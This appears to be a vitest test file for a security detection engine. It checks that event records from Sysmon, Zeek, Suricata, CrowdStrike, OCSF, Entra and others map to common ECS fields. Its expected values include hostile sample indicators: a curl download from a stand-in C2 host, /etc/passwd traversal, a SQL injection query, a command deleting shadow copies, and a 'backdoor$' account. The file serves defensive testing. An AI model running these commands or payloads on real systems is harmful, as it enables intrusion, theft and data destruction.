/** What several products record of one thing is read under the same ECS names from each record; what a record does not say is open, not absent. */
import { readdirSync, readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { fieldPath } from '../../src/condition/field-path.ts';
import { createEventView } from '../../src/engine/event/event-view.ts';
import { fieldQuery } from '../../src/engine/event/field-query.ts';
import { readEvent } from '../../src/events/read-event.ts';
import { logSourcesOf } from '../../src/fields/event-origin.ts';
import { logSourceText } from '../../src/rule/log-source.ts';
import type { EventSchema } from '../../src/rule/rule.ts';

const FORMS = new URL('../events/forms/', import.meta.url).pathname;
const OPEN = 'unmapped_field';

function load(form: string): unknown {
  return JSON.parse(readFileSync(`${FORMS}${form}.json`, 'utf8'));
}

function read(form: string, name: string, schema: EventSchema = 'ecs'): unknown {
  const view = createEventView(readEvent(load(form)));
  const reading = view.read(fieldQuery(fieldPath(name), 'any', schema));
  return typeof reading === 'string' ? reading : (JSON.parse(JSON.stringify(reading)) as unknown[]).flat();
}

/** By record: what its forms say; and the forms that cannot say it. */
const FACTS: Readonly<
  Record<string, Readonly<Record<string, readonly [value: unknown, ...not: readonly string[]]>>>
> = {
  'dns-lookup': {
    'dns.question.name': ['abcdefghij.dnslog.cn'],
    'dns.question.type': ['A'],
    'source.ip': ['10.0.0.5'],
    'destination.ip': ['10.0.0.1'],
    'destination.port': [53],
    'network.transport': ['udp'],
  },
  'web-request': {
    'source.ip': ['203.0.113.7'],
    'http.request.method': ['GET'],
    'http.response.status_code': [200, 'aws-waf'],
    'url.path': ['/cgi-bin/../../../../etc/passwd'],
    'url.query': ['id=1%27%20UNION%20SELECT%20password%20FROM%20users'],
    'user_agent.original': ['sqlmap/1.7 (https://sqlmap.org)', 'reference', 'aws-waf'],
  },
  flow: {
    'source.ip': ['203.0.113.7'],
    'destination.ip': ['10.0.0.80'],
    'destination.port': [22],
    'network.iana_number': [6],
    'network.bytes': [4249],
  },
  'linux-exec': {
    'process.executable': ['/usr/bin/curl'],
    'process.name': ['curl'],
    'process.command_line': ['curl http://c2.example.net/a -o /tmp/a'],
    'process.pid': [4242],
    'process.parent.name': ['bash', 'osquery-bpf-process-events', 'osquery-snapshot-of-one-row'],
    'event.type': ['start'],
    'event.category': ['process'],
    'host.os.type': ['linux', 'laurel'],
  },
  'security-4625': {
    'user.name': ['administrator'],
    'source.ip': ['203.0.113.7'],
    'event.code': [4625],
    'event.outcome': ['failure'],
    'winlog.event_data.LogonType': [3],
    'winlog.event_data.TargetDomainName': ['EXAMPLE'],
  },
  'security-4720': {
    'event.code': [4720],
    'winlog.event_data.TargetUserName': ['backdoor$'],
    'winlog.event_data.SubjectUserName': ['dana'],
  },
  'sysmon-3': {
    'process.name': ['rundll32.exe'],
    'destination.ip': ['203.0.113.77'],
    'destination.port': [4444],
    'source.port': [50123],
    'network.direction': ['egress'],
    'network.transport': ['tcp'],
    'event.category': ['network'],
  },
  'sysmon-22': { 'process.name': ['rundll32.exe'], 'dns.question.name': ['abcdefghij.ngrok.io'] },
  guardduty: {
    'cloud.account.id': ['123456789012'],
    'aws.guardduty.type': ['CryptoCurrency:EC2/BitcoinTool.B!DNS'],
    'aws.guardduty.severity.code': [8],
    'event.dataset': ['aws.guardduty'],
  },
  'entra-audit': {
    'event.action': ['Add member to role'],
    'azure.auditlogs.properties.category': ['RoleManagement'],
    'azure.auditlogs.properties.result': ['success'],
    'azure.auditlogs.properties.initiated_by.user.userPrincipalName': ['dana@example.org'],
  },
  'entra-sign-in': {
    'source.ip': ['203.0.113.7', 'event-hub-records'],
    'azure.signinlogs.result_type': ['50126', 'event-hub-records'],
    'azure.signinlogs.properties.user_principal_name': ['dana@example.org', 'event-hub-records'],
    'azure.signinlogs.properties.app_display_name': ['Office 365 Exchange Online', 'event-hub-records'],
    'source.geo.country_iso_code': ['DE', 'event-hub-records'],
  },
};

describe.each(Object.entries(FACTS))('%s', (record, facts) => {
  const forms = readdirSync(`${FORMS}${record}`).map((file) => file.replace('.json', ''));
  it.each(forms)('%s', (form) => {
    const known = Object.entries(facts).filter(([, [, ...not]]) => !not.includes(form));
    const values = known.map(([name]) => [name, String([read(`${record}/${form}`, name)].flat()[0])]);
    expect(values).toEqual(known.map(([name, [value]]) => [name, String(value)]));
  });
});

describe('where a record is from', () => {
  it.each([
    ['zeek/conn-json', 'zeek.network zeek.network_connection zeek.conn'],
    ['zeek/dns-json-no-path', 'zeek.dns zeek.dns'],
    ['zeek/smb-files-nested-id', 'zeek.smb_files'],
    ['suricata/alert', 'suricata.ids suricata.eve suricata.alert'],
    ['suricata/tls', 'suricata.eve suricata.tls'],
    ['web-request/zeek-http', 'zeek.webserver zeek.proxy zeek.web zeek.http'],
    ['web-request/nginx-variables', 'nginx.webserver nginx.web nginx.access nginx.nginx'],
    ['web-request/logstash-combinedapachelog', 'webserver web'],
    ['web-request/reference', 'windows.webserver windows.web windows.iis iis.access'],
    ['web-request/aws-waf', 'aws.webserver aws.web aws.wafwebacl'],
    ['flow/fields-of-text', 'aws.network aws.network_connection aws.vpcflow'],
    ['guardduty/api-pascal-case', 'aws.guardduty'],
    ['github/webhook-workflow-run', 'github.webhook'],
    ['github/audit-log', 'github.audit'],
    ['linux-exec/laurel', 'linux.process_creation linux.auditd'],
    ['linux-exec/osquery-bpf-process-events', 'linux.process_creation osquery.bpf_process_events'],
    ['osquery/process-events-result', 'process_creation osquery.process_events'],
    [
      'sysmon-1/crowdstrike-fdr-panther-event',
      'windows.process_creation crowdstrike.fdr crowdstrike.fdrevent',
    ],
    ['sysmon-1/ocsf-process-activity', 'windows.process_creation ocsf.processactivity'],
    ['cloudtrail/ocsf-api-activity-security-lake', 'aws.cloudtrail ocsf.apiactivity'],
    ['security-4625/ocsf-authentication', 'windows.security ocsf.authentication'],
    ['entra-audit/graph-directoryaudits', 'azure.auditlogs'],
    ['entra-sign-in/graph-auditlogs-signins', 'azure.signinlogs'],
    ['entra-sign-in/defender-aadsignineventsbeta-entraidsigninevents', 'azure.signinlogs'],
    ['azure-activity/rest-portal-json-operationname-value', 'azure.activitylogs'],
  ])('%s: %s', (form, expected) => {
    const { origin } = readEvent(load(form));
    expect(logSourcesOf(origin).map(logSourceText).join(' ')).toBe(expected);
  });

  it.each<readonly [string, unknown]>([
    ['a class number without OCSF’s head', { class_uid: 1007, process: {} }],
    ['columns of some table', { name: 'x', columns: { path: '/bin/ls' } }],
    ['an address that is asked for', { remote_addr: '1.2.3.4', status: 'ok' }],
    ['a path of its own', { _path: 'dns', value: 1 }],
    ['an event type', { event_type: 'dns', dns: {} }],
    ['hyphens', { 'c-uri': '/', 'x-id': 1 }],
  ])('is not known of %s', (_title, event) => {
    expect(readEvent(event).origin).toMatchObject({ product: null, categories: null, services: null });
  });
});

describe('what a record does not say', () => {
  it.each([
    ['sysmon-1/crowdstrike-fdr-processrollup2', 'Company', 'windows'],
    ['sysmon-1/crowdstrike-fdr-processrollup2', 'Hashes', 'windows'],
    ['sysmon-1/crowdstrike-fdr-processrollup2', 'process.hash.sha256', 'ecs'],
    ['sysmon-1/ocsf-process-activity', 'OriginalFileName', 'windows'],
    ['linux-exec/laurel', 'ParentUser', 'windows'],
    ['cloudtrail/ocsf-api-activity-security-lake', 'readOnly', 'raw'],
    ['entra-sign-in/graph-auditlogs-signins', 'resultSignature', 'raw'],
    ['entra-sign-in/defender-aadsignineventsbeta-entraidsigninevents', 'IsInteractive', 'log_analytics'],
    ['azure-activity/rest-portal-json-operationname-value', 'properties.message', 'raw'],
    ['web-request/aws-waf', 'sc-status', 'sigma'],
    ['web-request/zeek-http', 'cs-cookie', 'sigma'],
    ['web-request/logstash-combinedapachelog', 'cs-host', 'sigma'],
  ] as const)('%s: %s is open', (form, name, schema) => {
    // No sensor of that system records it, or this record does not.
    expect([OPEN, 'not_observable']).toContain(read(form, name, schema));
  });

  it.each([
    ['cloudtrail/ocsf-api-activity-security-lake', 'errorCode', 'raw'],
    ['cloudtrail/ocsf-api-activity-security-lake', 'requestParameters.isMultiRegionTrail', 'raw'],
    ['entra-sign-in/graph-auditlogs-signins', 'properties.riskEventTypes', 'raw'],
    ['web-request/logstash-combinedapachelog', 'cs-username', 'sigma'],
  ] as const)('%s: %s is surely absent', (form, name, schema) => {
    expect(read(form, name, schema)).toEqual([]);
  });
});

describe('a record in another notation', () => {
  it.each<readonly [string, string, EventSchema, unknown]>([
    [
      'cloudtrail/ocsf-api-activity-security-lake',
      'requestParameters.name',
      'raw',
      ['arn:aws:cloudtrail:eu-central-1:111122223333:trail/main'],
    ],
    ['cloudtrail/ocsf-api-activity-security-lake', 'event.outcome', 'ecs', ['success']],
    [
      'azure-activity/rest-portal-json-operationname-value',
      'operationName',
      'raw',
      ['MICROSOFT.KEYVAULT/VAULTS/WRITE'],
    ],
    ['azure-activity/rest-portal-json-operationname-value', 'resultType', 'raw', ['Success']],
    ['entra-sign-in/graph-auditlogs-signins', 'operationName', 'raw', ['Sign-in activity']],
    [
      'sysmon-1/crowdstrike-fdr-processrollup2',
      'event.CommandLine',
      'raw',
      ['vssadmin.exe Delete Shadows /All /Quiet'],
    ],
    ['sysmon-1/crowdstrike-fdr-processrollup2', 'fdr_event_type', 'raw', ['ProcessRollup2']],
    ['sysmon-1/crowdstrike-fdr-processrollup2', 'IntegrityLevel', 'windows', ['High']],
    ['sysmon-1/crowdstrike-fdr-processrollup2', 'event.action', 'ecs', ['ProcessRollup2', 'start']],
    [
      'sysmon-3/crowdstrike-fdr-networkconnectip4',
      'event.action',
      'ecs',
      ['NetworkConnectIP4', 'connection_attempted'],
    ],
    ['sysmon-1/defender-deviceprocessevents', 'process_integrity_level', 'splunk', ['High']],
    ['sysmon-1/defender-deviceprocessevents', 'winlog.event_data.ParentUser', 'ecs', OPEN],
    ['sysmon-1/defender-deviceprocessevents', 'target.process.file.sha256', 'udm', OPEN],
    ['sysmon-1/crowdstrike-fdr-processrollup2', 'data_stream.dataset', 'ecs', ['crowdstrike.fdr']],
    ['sysmon-1/ocsf-process-activity', 'event.action', 'ecs', OPEN],
    ['sysmon-1/osquery-process-etw-events', 'IntegrityLevel', 'windows', ['High']],
    ['linux-exec/laurel', 'a1', 'raw', ['http://c2.example.net/a']],
    ['linux-exec/laurel', 'exe', 'raw', ['/usr/bin/curl']],
    ['linux-exec/laurel', 'syscall', 'raw', [59, 'execve']],
    ['linux-exec/laurel', 'type', 'raw', ['SYSCALL', 'EXECVE', 'CWD', 'PATH', 'PROCTITLE']],
    ['linux-exec/laurel', 'process.args', 'ecs', ['curl', 'http://c2.example.net/a', '-o', '/tmp/a']],
    ['flow/fields-of-text', 'flowDirection', 'raw', ['ingress']],
    ['web-request/nginx-variables', 'cs-uri-stem', 'sigma', ['/cgi-bin/../../../../etc/passwd']],
    ['web-request/suricata-eve-http', 'c-useragent', 'sigma', ['sqlmap/1.7 (https://sqlmap.org)']],
    ['dns-lookup/suricata-eve-dns-version-3', 'record_type', 'sigma', ['A']],
    ['guardduty/reference', 'metadata.product_name', 'udm', OPEN],
  ])('%s: %s (%s)', (form, name, schema, expected) => {
    expect(read(form, name, schema)).toEqual(expected);
  });
});
